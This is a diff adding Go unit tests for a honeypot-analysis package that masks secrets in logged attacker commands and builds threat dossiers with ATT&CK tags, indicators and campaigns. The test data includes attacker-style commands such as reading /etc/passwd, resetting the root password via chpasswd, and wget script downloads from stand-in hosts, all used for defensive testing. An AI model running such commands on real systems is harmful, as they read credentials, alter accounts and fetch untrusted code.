@@ -1,0 +1,172 @@
+package dossier
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"ttpctl/internal/attack"
+	"ttpctl/internal/event"
+)
+
+func TestMask(t *testing.T) {
+	tests := []struct{ name, in, want string }{
+		{"nothing", "uname -a; cat /etc/passwd", "uname -a; cat /etc/passwd"},
+		{"chpasswd", `echo "root:Xy7secret" | chpasswd`, `echo "root:***" | chpasswd`},
+		{"chpasswd unquoted", "echo root:Xy7secret|chpasswd|bash", "echo root:***|chpasswd|bash"},
+		{"passwd", `echo -e "old\nnew\nnew"|passwd`, `echo -e ***|passwd`},
+		{"passwd through sudo", `echo hunter2hunter2 | sudo passwd root`, `echo *** | sudo passwd root`},
+		{"here string", `passwd root <<< 'abcdef'`, `passwd root <<< ***`},
+		{"sshpass", "sshpass -p 'abc def' ssh root@192.0.2.1", "sshpass -p *** ssh root@192.0.2.1"},
+		{"mysql", "mysql -u root -phunter2 -e 'show databases'", "mysql -u root -p*** -e 'show databases'"},
+		{"curl user", "curl -u admin:abcd http://192.0.2.1/x", "curl -u admin:*** http://192.0.2.1/x"},
+		{"userinfo", "wget ftp://bob:abcd@192.0.2.1/x", "wget ftp://bob:***@192.0.2.1/x"},
+		{"option", "wget --password=abcd --user=b ftp://192.0.2.1", "wget --password=*** --user=b ftp://192.0.2.1"},
+		{"option and word", "tool --password abcd x", "tool --password *** x"},
+		{"variable", "export DB_PASSWORD=abcd; env", "export DB_PASSWORD=***; env"},
+		{"quoted variable", `PGPASSWORD="a b" psql`, `PGPASSWORD=*** psql`},
+		{"query", "curl 'http://192.0.2.1/a?token=abcd&x=1'", "curl 'http://192.0.2.1/a?token=***&x=1'"},
+		{"header", "curl -H 'Authorization: Bearer abcd.efgh' http://192.0.2.1", "curl -H 'Authorization: Bearer ***' http://192.0.2.1"},
+		{"useradd", "useradd -m -p abcdEF bob", "useradd -m -p *** bob"},
+		{"openssl", "useradd -p $(openssl passwd -1 abcd) bob", "useradd -p *** bob"},
+		{"mail", "mail -s x someone.else@example.org < f", "mail -s x ***@example.org < f"},
+		{"no mail", "ssh root@192.0.2.1", "ssh root@192.0.2.1"},
+		{"file names", "cat /etc/passwd > pass; ls pwd", "cat /etc/passwd > pass; ls pwd"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := Mask(tt.in)
+			if got != tt.want {
+				t.Errorf("Mask(%q) = %q, want %q", tt.in, got, tt.want)
+			}
+			if again := Mask(got); again != got {
+				t.Errorf("Mask(%q) = %q, want it as it is", got, again)
+			}
+		})
+	}
+}
+
+func TestCountries(t *testing.T) {
+	c, err := ReadCountries(strings.NewReader("network,country\n# ours\n203.0.113.0/24,Testland\n203.0.113.9\tElsewhere\n2001:db8::/32; \"Six Land\"\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for address, want := range map[string]string{
+		"203.0.113.7": "Testland", "203.0.113.9": "Elsewhere", "2001:db8::1": "Six Land", "198.51.100.1": "", "identity x": "",
+	} {
+		if got := c.Of(address); got != want {
+			t.Errorf("Of(%q) = %q, want %q", address, got, want)
+		}
+	}
+	for _, bad := range []string{"203.0.113.0/24", "a,b\nc,d", "203.0.113.0/24,", "1.2.3.4/99,X\n1.2.3.4/99,X"} {
+		if _, err := ReadCountries(strings.NewReader(bad)); err == nil {
+			t.Errorf("ReadCountries(%q) gives no error", bad)
+		}
+	}
+}
+
+// played feeds a builder the sessions of attackers, a line of text each, and a tag
+// for each line.
+func played(t *testing.T, b *Builder, attackers int, lines ...string) {
+	t.Helper()
+	at := time.Date(2026, 9, 14, 1, 0, 0, 0, time.UTC)
+	for i := range attackers {
+		r := b.Recorder()
+		var tags []event.Tag
+		for k, text := range lines {
+			ev := event.Event{SourceID: fmt.Sprintf("%d-%d", i, k), AttackerIP: fmt.Sprintf("203.0.113.%d", i+1), SessionID: event.Some(fmt.Sprintf("s%d", i)), Time: at, TS: at.Format(time.RFC3339)}
+			ev.SetKind("command")
+			ev.SetField("command_text", event.StringValue(text))
+			r.Record(&ev)
+			if !strings.HasPrefix(text, "untagged") {
+				tags = append(tags, event.Tag{
+					SourceKind: "command", SourceID: ev.SourceID, AttackerIP: ev.AttackerIP, SessionID: ev.SessionID, Tactic: "TA0007", Technique: "T1082",
+					Confidence: 0.8, RuleID: "R0018", RuleVersion: 1, Evidence: []byte(`{"matched":"uname"}`), AttackRelease: "enterprise-v19.1", ObservedAt: ev.TS,
+				})
+			}
+		}
+		b.Add(r.Take(nil))
+		b.Tag(tags)
+	}
+}
+
+func TestDossier(t *testing.T) {
+	b := New(Config{Catalogue: attack.Load()})
+	played(t, b, 3, "uname -a", "wget http://192.0.2.200/a.sh?token=abcd -O /tmp/a", "untagged one", "id", "whoami")
+	d := b.Dossier()
+	if d.Counts.Attackers.N != 3 || d.Counts.Sessions.N != 3 || d.Tags != 12 || d.Counts.Techniques != 1 {
+		t.Errorf("counts = %+v, %d tags, want 3 attackers, 3 sessions, 1 technique, 12 tags", d.Counts, d.Tags)
+	}
+	if len(d.Sessions) != 1 || d.Sessions[0].Like != 2 || d.Counts.SessionsLike != 2 {
+		t.Fatalf("%d sessions are shown, %d like them, want 1 and 2", len(d.Sessions), d.Counts.SessionsLike)
+	}
+	line := d.Sessions[0].Lines[1]
+	if !strings.Contains(line.Text, "token=***") || len(line.Effects) == 0 || len(line.Tags) != 1 {
+		t.Errorf("line = %+v, want its token masked, its effects and its tag", line)
+	}
+	if d.Missed != 3 || d.Commands != 15 || len(d.Untagged) != 1 || d.Untagged[0].Lines != 3 {
+		t.Errorf("untagged: %d of %d, shapes %+v, want 3 of 15 of one shape", d.Missed, d.Commands, d.Untagged)
+	}
+	kinds := map[string]Indicator{}
+	for _, i := range d.Indicators {
+		kinds[i.Kind] = i
+	}
+	if i := kinds[KindHost]; i.Value != "192.0.2.200" || i.Attackers != 3 || i.Sessions != 3 {
+		t.Errorf("host = %+v, want 192.0.2.200 of 3 attackers and 3 sessions", i)
+	}
+	if strings.Contains(kinds[KindURL].Value, "abcd") {
+		t.Errorf("url = %q shows a token", kinds[KindURL].Value)
+	}
+	if len(d.Campaigns) != 1 || d.Campaigns[0].Count != 3 {
+		t.Errorf("campaigns = %+v, want one of 3 attackers", d.Campaigns)
+	}
+	if tl := d.Timeline; tl.Buckets != 1 || tl.Most != 12 {
+		t.Errorf("timeline = %+v, want one hour of 12 tags", tl)
+	}
+}
+
+// What is shared by everybody ties nobody together.
+func TestCampaignsOfEveryone(t *testing.T) {
+	b := New(Config{Catalogue: attack.Load()})
+	played(t, b, 3, "wget https://raw.githubusercontent.com/a/b/c.sh")
+	if d := b.Dossier(); len(d.Campaigns) != 0 {
+		t.Errorf("campaigns = %+v, want none", d.Campaigns)
+	}
+}
+
+func TestTimelineFits(t *testing.T) {
+	b := New(Config{Catalogue: attack.Load()})
+	for _, at := range []string{"1999-12-31T23:00:00Z", "2026-09-14T00:00:00Z", "9999-12-31T23:59:59Z", "no time", ""} {
+		b.Tag([]event.Tag{{Tactic: "TA0007", Technique: "T1082", RuleID: "R0018", Confidence: 0.5, Evidence: []byte("{}"), AttackerUUID: "a", ObservedAt: at}})
+	}
+	d := b.Dossier()
+	if d.Timeline.Buckets == 0 || d.Timeline.Buckets > maxColumns {
+		t.Errorf("%d buckets, want 1 to %d", d.Timeline.Buckets, maxColumns)
+	}
+	sum := 0
+	for _, n := range d.Timeline.Totals {
+		sum += n
+	}
+	if sum != 3 {
+		t.Errorf("the buckets hold %d tags, want 3", sum)
+	}
+}
+
+// A database gives tags and no events: sessions are put together of them.
+func TestStored(t *testing.T) {
+	b := New(Config{Catalogue: attack.Load(), Stored: true})
+	for i := range 3 {
+		b.Tag([]event.Tag{{
+			SourceKind: "command", SourceID: fmt.Sprint(2 - i), SessionID: event.Some("s"), AttackerIP: "203.0.113.9", Tactic: "TA0011", Technique: "T1105", RuleID: "R0012",
+			Confidence: 0.9, Evidence: []byte(`{"matched":"wget http://192.0.2.200/x.sh"}`), ObservedAt: time.Unix(int64(1000-i), 0).UTC().Format(time.RFC3339),
+		}})
+	}
+	d := b.Dossier()
+	if len(d.Sessions) != 1 || len(d.Sessions[0].Lines) != 3 || d.Sessions[0].Lines[0].SourceID != "0" || !d.Sessions[0].Evidence {
+		t.Fatalf("sessions = %+v, want one of three places in the order of time", d.Sessions)
+	}
+	if len(d.Indicators) == 0 {
+		t.Error("no indicator, want the host of the URL")
+	}
+}
